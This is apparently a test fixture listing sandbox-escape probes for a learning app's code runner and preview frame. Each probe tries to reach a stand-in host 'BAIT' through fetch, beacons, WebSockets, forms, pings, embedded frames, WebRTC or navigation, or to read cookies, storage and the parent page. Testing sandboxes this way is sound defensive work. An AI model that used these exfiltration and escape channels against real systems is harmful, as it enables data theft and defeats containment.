/*
 * What a learner's code could try, by name. BAIT stands for the origin of a server that counts, OURS for the app's origin,
 * and STUN for the address of a UDP socket that counts.
 */

/** In the worker of the runner. Each throws or rejects. */
export const REFUSED_IN_RUNNER = {
  fetch: 'fetch("BAIT/fetch")',
  'fetch without CORS': 'fetch("BAIT/no-cors", { mode: "no-cors" })',
  'fetch from our server': 'fetch("OURS/session", { credentials: "include" })',
  XMLHttpRequest: '(() => { const x = new XMLHttpRequest(); x.open("GET", "BAIT/xhr", false); x.send() })()',
  importScripts: 'importScripts("BAIT/import-scripts")',
  'import()': 'import("BAIT/import")',
  eval: 'eval("1 + 1")',
  'new Function': 'new Function("return 1")()',
  'a string as a timer': `new Promise((_, reject) => {
    setTimeout("postMessage({ kind: 'finished', results: ['ran'] })")
    setTimeout(() => reject(new EvalError()), 50)
  })`,
  IndexedDB:
    'new Promise((resolve, reject) => { const r = indexedDB.open("x"); r.onsuccess = () => resolve("open"); r.onerror = () => reject(r.error) })',
  'cache storage': 'caches.open("x")',
  'the page': 'parent.document',
  cookies: 'document.cookie',
  'local storage': 'localStorage.length',
}

/** In the worker. What fails later or silently: only the server can tell. */
export const UNHEARD_IN_RUNNER = {
  'a WebSocket': 'new WebSocket("BAIT".replace("http", "ws") + "/socket")',
  'an event source': 'new EventSource("BAIT/events")',
  'a worker from elsewhere': 'new Worker("BAIT/worker.js")',
  'a worker of its own that fetches': `new Worker(URL.createObjectURL(new Blob(['fetch("BAIT/nested")'])))`,
}

/** In the frame of the preview. Each throws or rejects. */
export const REFUSED_IN_PREVIEW = {
  fetch: 'fetch("BAIT/fetch")',
  'fetch without CORS': 'fetch("BAIT/no-cors", { mode: "no-cors" })',
  'fetch from our server': 'fetch("OURS/session", { credentials: "include" })',
  XMLHttpRequest: '(() => { const x = new XMLHttpRequest(); x.open("GET", "BAIT/xhr", false); x.send() })()',
  'import()': 'import("BAIT/import")',
  WebTransport: 'new WebTransport("BAIT".replace("http", "https")).ready',
  WebRTC: 'new RTCPeerConnection()',
  'a worker': `new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
    worker.onmessage = () => resolve('ran')
    worker.onerror = () => reject(new Error())
  })`,
  'a service worker': 'navigator.serviceWorker.register("/service-worker.js")',
  eval: 'eval("1 + 1")',
  'new Function': 'new Function("return 1")()',
  'a string as a timer': `new Promise((resolve, reject) => {
    setTimeout("ran = true")
    setTimeout(() => (globalThis.ran ? resolve('ran') : reject(new EvalError())), 50)
  })`,
  IndexedDB:
    'new Promise((resolve, reject) => { const r = indexedDB.open("x"); r.onsuccess = () => resolve("open"); r.onerror = () => reject(r.error) })',
  'cache storage': 'caches.open("x")',
  'the page': 'parent.document',
  'its address': 'parent.location.href',
  'its navigation': '(top.location.href = "BAIT/top")',
  cookies: 'document.cookie',
  'local storage': 'localStorage.length',
  'the file system': 'navigator.storage.getDirectory()',
}

const LINKS = ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'stylesheet']
const TAGS = [
  '<img src="BAIT/img">',
  '<img srcset="BAIT/srcset 1x">',
  '<video src="BAIT/video" poster="BAIT/poster" autoplay></video>',
  '<audio src="BAIT/audio" autoplay></audio>',
  '<object data="BAIT/object"></object>',
  '<embed src="BAIT/embed">',
  '<iframe src="BAIT/frame"></iframe>',
  '<input type="image" src="BAIT/input">',
  '<svg><image href="BAIT/svg" /><use href="BAIT/use#a" /></svg>',
  '<p style="background: url(BAIT/style)">x</p>',
]
const RULES =
  '@import "BAIT/import.css"; body { background: url(BAIT/background); font-family: x } @font-face { font-family: x; src: url(BAIT/font) }'

/** In the frame. What fails later or silently: only the server can tell. */
export const UNHEARD_IN_PREVIEW = {
  'a WebSocket': 'new WebSocket("BAIT".replace("http", "ws") + "/socket")',
  'an event source': 'new EventSource("BAIT/events")',
  'a beacon': 'navigator.sendBeacon("BAIT/beacon", "x")',
  'a fetch that outlives the page':
    'fetch("BAIT/keepalive", { method: "POST", body: "x", keepalive: true }).catch(() => {})',
  'an element with a source': `document.body.innerHTML = \`${TAGS.join('')}\``,
  'a style sheet': `const style = document.createElement('style')
style.textContent = \`${RULES}\`
document.head.append(style)
document.body.append('text')`,
  'a link': `for (const rel of ${JSON.stringify(LINKS)}) {
  const link = document.createElement('link')
  Object.assign(link, { rel, as: 'fetch', href: 'BAIT/' + rel })
  document.head.append(link)
}`,
  'a script from elsewhere':
    'for (const type of ["", "module"]) document.body.append(Object.assign(document.createElement("script"), { type, src: "BAIT/script.js" }))',
  'speculation rules': `document.body.append(Object.assign(document.createElement('script'), {
  type: 'speculationrules',
  textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['BAIT/speculation'], eagerness: 'immediate' }] }),
}))`,
  'a form': `document.body.innerHTML = '<form action="BAIT/form"><button>Send</button></form>'
document.querySelector('button').click()
document.forms[0].requestSubmit()
document.forms[0].submit()`,
  'a link that reports clicks': `document.body.innerHTML = '<a href="#x" ping="BAIT/ping">x</a>'
document.querySelector('a').click()`,
  'a link to another window': `document.body.innerHTML = '<a href="BAIT/top" target="_top">x</a><a href="BAIT/blank" target="_blank">x</a>'
for (const link of document.querySelectorAll('a')) link.click()
window.open('BAIT/popup')`,
  'a frame in the page': `const frame = document.createElement('iframe')
frame.srcdoc = '<script>fetch("BAIT/srcdoc"); new Image().src = "BAIT/srcdoc-image"</' + 'script>'
document.body.append(frame)`,
  'WebRTC in a frame in the page': `const frame = document.createElement('iframe')
frame.srcdoc = \`<script>
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] })
  peer.createDataChannel('x')
  peer.createOffer().then((offer) => peer.setLocalDescription(offer))
</\${''}script>\`
document.body.append(frame)`,
}

/** The app removes a frame that loads a second document. */
export const LEAVING_PREVIEW = {
  'an address elsewhere': 'location.href = "BAIT/location"',
  'a refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url=BAIT/refresh">')`,
  'a download': `document.body.innerHTML = '<a href="BAIT/download" download>x</a>'
document.querySelector('a').click()`,
  'a page of data': 'location.href = "data:text/html,<script>fetch(`BAIT/data`)</script>"',
  'a page of its own making':
    'location.href = URL.createObjectURL(new Blob(["<script>fetch(`BAIT/blob`)</script>"], { type: "text/html" }))',
}
